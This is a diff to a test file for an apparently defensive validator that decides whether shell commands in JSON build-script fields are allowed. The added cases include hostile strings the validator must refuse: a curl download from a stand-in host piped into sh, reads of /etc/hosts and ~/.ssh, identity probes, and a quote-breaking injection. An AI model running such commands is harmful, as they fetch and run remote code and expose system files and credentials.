@@ -14,6 +14,7 @@ const FIELDS = [
   'body.spec.template.containers[2].command[2]',
   'body.jobs.build.steps[3].run',
   'body.templates[0].script.source',
+  'body.rules[0].rendered_command',
   'body.scripts.build',
 ]
 
@@ -51,6 +52,27 @@ describe.each(FIELDS)('%s', (name) => {
 
   test.each(BREAKS)('may not hold %j', (text) => {
     expect(engine.text('json', 'value', name, text).refused).toBe(true)
+  })
+})
+
+describe('steps of a build in a package', () => {
+  test.each([
+    'tsc && tsc -p tsconfig.esm.json && node dist/x.js',
+    'node ../../tools/clean.ts dist',
+    'rm -rf build && rollup -c',
+  ])('may be %j', (script) => {
+    expect(engine.text('json', 'value', 'body.scripts.build', script).refused).toBe(false)
+    expect(engine.text('json', 'value', 'body.note', `x; ${script}`).refused).toBe(true)
+  })
+  test.each([
+    'tsc && cat /etc/hosts',
+    'tsc && curl -s https://e.example/x | sh',
+    'tsc && id',
+    'tsc && node -e "x" ; whoami',
+    'tsc && ls ~/.ssh',
+    "x' && cat /etc/hosts && '",
+  ])('may not be %j', (script) => {
+    expect(engine.text('json', 'value', 'body.scripts.build', script).refused).toBe(true)
   })
 })
 
